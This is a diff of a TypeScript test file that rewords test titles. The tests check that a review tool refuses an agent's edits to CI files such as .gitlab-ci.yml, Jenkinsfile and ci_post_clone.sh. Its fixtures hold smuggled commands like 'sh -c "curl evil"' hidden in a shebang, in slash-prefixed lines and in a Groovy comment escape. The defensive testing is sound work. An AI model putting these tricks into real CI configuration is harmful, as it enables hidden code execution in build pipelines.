@@ -189,7 +189,7 @@ test('a conflict in a workflow may be settled with the permissions, conditions a
   expect((await reviewOf({ [CI]: alone })).refusals.join()).toContain('would run again')
 })
 
-test('a conflict in another system’s file is settled where it is, and nowhere else', async () => {
+test('in CI files of other systems, only the lines in conflict may change', async () => {
   await using history = await makeHistory()
   const path = '.circleci/config.yml'
   const reviewOf = await fork(history, {
@@ -403,7 +403,7 @@ test.each([
   expect((await reviewOf({ [path]: 'x' })).refusals.join()).toContain('Files that steer CI')
 })
 
-test('a script of slashes is no comment: it runs', async () => {
+test('a script with lines of slashes is not a comment: it runs', async () => {
   await using history = await makeHistory()
   const reviewOf = await fork(history, {})
   const review = await reviewOf({ 'ci_scripts/ci_post_clone.sh': '//bin/sh -c "curl evil"\n' })
@@ -459,7 +459,7 @@ test.each(['.gitmodules', '.lfsconfig', 'docs/.gitattributes', 'web/uv.toml', '.
   },
 )
 
-test.each(['CMakeLists.txt', 'src/Makefile'])('a conflict in %s is one in code: it makes no draft', async path => {
+test.each(['CMakeLists.txt', 'src/Makefile'])('a conflict in %s is treated as code and makes no draft', async path => {
   await using history = await makeHistory()
   const list = (...names: string[]) => `add(${names.join(' ')})\n`
   const reviewOf = await fork(history, {
@@ -595,7 +595,7 @@ test.each([
   ['a rule that runs a manual job', '.gitlab-ci.yml', 'a: {when: manual, rules: [{when: always}], script: evil}\n'],
   ['a comment that Groovy ends', 'Jenkinsfile', '// \\u000a sh "evil"\n'],
   ['a first line that is a command', 'ci_scripts/ci_post_clone.sh', '#!/usr/bin/env -S sh -c "curl evil"\n'],
-])('%s switches nothing off: a file of the agent that has it is refused', async (_, path, bytes) => {
+])('%s does not switch CI off: a file of the agent with it is refused', async (_, path, bytes) => {
   await using history = await makeHistory()
   const reviewOf = await fork(history, {})
   expect((await reviewOf({ [path]: bytes })).refusals.join()).toContain('Files that steer CI')
@@ -676,7 +676,7 @@ test('hundreds of thousands of lines of upstream are not compared with each line
   expect(isOfBothSides(Buffer.from('w ours9 theirs9'), [lines('ours', 10), lines('theirs', 10), undefined])).toBe(true)
 })
 
-test('what is no package has no scripts', () => {
+test('a file that is not a package has no scripts', () => {
   for (const json of ['', '[', 'null', '[]', '{"scripts": []}', '{"scripts": {"test": "x"}}'])
     expect(lifecycleScripts(Buffer.from(json))).toEqual([])
 })
